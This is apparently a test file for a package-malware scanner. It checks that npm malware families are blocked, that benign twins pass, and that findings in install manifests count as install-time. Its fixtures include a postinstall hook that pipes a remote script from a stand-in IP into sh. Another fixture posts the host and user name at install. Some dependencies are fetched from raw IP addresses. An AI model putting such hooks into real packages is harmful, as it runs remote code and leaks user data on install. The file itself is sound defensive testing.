/**
 * pkg23: npm malware families written here (test/support/npm-families-pkg23.ts), each with variants (another API,
 * aliasing, a helper module between) and honest twins; and the role of the manifests the installer reads
 * (docs/package-analysis.md, "Files by role" and "npm families, pkg23"). Inert text: nothing is installed or run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive } from '../../shared/packages/analysis/index.js';
import { retainedWarningsOf } from '../../shared/packages/audit.js';
import { rateNpmFiles } from '../support/blind-halves.js';
import { FAMILIES_PKG23, TWINS_PKG23 } from '../support/npm-families-pkg23.js';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';
import { buildTgz, npmTgz } from '../fixtures/archives/build.js';

test.before(async () => {
  await loadParsers();
});

for (const v of FAMILIES_PKG23) {
  // (inject-helper-module-patch, a helper module writing into a sibling package's file a path the caller names, was
  // missed until pkg24: pkg-npm-helper-write.test.ts.)
  test(`${v.family}: ${v.id} is BLOCKED`, async () => {
    const r = await rateNpmFiles(v.files, { name: 'acme-kit', version: '1.0.3' });
    assert.is(r.level, 'BLOCKED', r.rules.join(' '));
  });
}

for (const v of TWINS_PKG23) {
  test(`honest twin (${v.family}): ${v.id} is not BLOCKED, and no fingerprint or secret send is found`, async () => {
    const r = await rateNpmFiles(v.files, { name: 'acme-kit', version: '1.0.3' });
    assert.is.not(r.level, 'BLOCKED', r.rules.join(' '));
    assert.not.ok(r.rules.some((x) => /^(?:fingerprint_send|secret_send|dns_recon|install_persistence)/.test(x)), r.rules.join(' '));
    // (The download helper's install-time network use is CAUTION as before: install_script_network.)
    if (v.id !== 'twin-install-helper-gets-cwd') assert.is.not(r.level, 'CAUTION', r.rules.join(' '));
  });
}

test('a bug report posted to the package own tracker at install is still a fingerprint sent at install', async () => {
  const twin = TWINS_PKG23.find((v) => v.id === 'twin-cli-bug-report-confirmed')!;
  const files: Record<string, string> = { ...twin.files, 'package.json': twin.files['package.json']!.replace('"bin"', '"scripts":{"postinstall":"node cli.js"},"bin"') };
  const cli = files['cli.js']!.replace("const body = 'acme-kit 1.0.3, node '", "const body = os.hostname() + ' ' + os.userInfo().username + ' acme-kit 1.0.3, node '").replace("if (a.trim().toLowerCase() !== 'y') return;", '');
  files['cli.js'] = cli.replace(/rl\.question\([\s\S]*$/, "fetch('https://api.github.com/repos/acme/acme-kit/issues', { method: 'POST', body: JSON.stringify({ title: 'x', body }) });\n");
  const r = await rateNpmFiles(files, { name: 'acme-kit', version: '1.0.3' });
  assert.is(r.level, 'BLOCKED', r.rules.join(' '));
});

// --- the manifests the installer reads are install-time (their findings and the certificate say so) ---

test('findings of pyproject.toml and setup.cfg are install-time, on the finding and in the certificate', async () => {
  const root = 'acmetools-1.0.0';
  const tgz = buildTgz([
    { path: `${root}/pyproject.toml`, data: '[build-system]\nrequires = ["setuptools", "helper @ http://198.51.100.7/helper-1.0.tar.gz"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "acmetools"\nversion = "1.0.0"\n' },
    { path: `${root}/setup.cfg`, data: '[metadata]\nname = acmetools\n[options]\ninstall_requires =\n    other @ http://203.0.113.5/o.tar.gz\n' },
    { path: `${root}/acmetools/__init__.py`, data: 'x = 1\n' },
  ]);
  const a = await analyzeArchive(tgz, { kind: 'tgz', registry: 'pypi', registryHosts: [] });
  const rows = retainedWarningsOf(a).filter((w) => w.ruleId === 'remote_url_dependency');
  assert.ok(rows.some((w) => w.file.endsWith('/pyproject.toml')) && rows.some((w) => w.file.endsWith('/setup.cfg')), JSON.stringify(rows));
  for (const w of rows) assert.is(w.role, 'install-time', `${w.file} ${w.role}`);
  // The package's modules keep theirs.
  assert.ok(!a.findings.some((f) => f.file.endsWith('/__init__.py') && f.role === 'install-time'));
});

test("an npm hook's finding on package.json is install-time in the certificate", async () => {
  const a = await analyzeArchive(npmTgz({ 'package.json': JSON.stringify({ name: 'acme-kit', version: '1.0.3', main: 'index.js', scripts: { postinstall: 'curl -s http://198.51.100.7/x.sh | sh' } }), 'index.js': 'module.exports = 1;\n' }), { kind: 'tgz', registry: 'npm', registryHosts: [] });
  const row = retainedWarningsOf(a).find((w) => w.file.endsWith('package.json') && w.severity === 'CRITICAL');
  assert.ok(row, JSON.stringify(retainedWarningsOf(a)));
  assert.is(row!.role, 'install-time');
  // A package.json nested in a subfolder (a fixture, a vendored package) is not the installer's manifest.
  const { isInstallManifest } = await import('../../shared/packages/analysis/roles.js');
  assert.ok(isInstallManifest('package.json', 'npm') && isInstallManifest('binding.gyp', 'npm'));
  assert.not.ok(isInstallManifest('test/fixtures/package.json', 'npm'));
  assert.ok(isInstallManifest('acmetools-1.0.0.dist-info/METADATA', 'pypi') && isInstallManifest('setup.cfg', 'pypi'));
  assert.not.ok(isInstallManifest('acmetools/pyproject.toml', 'pypi') || isInstallManifest('setup.py', 'pypi'));
});

test.run();
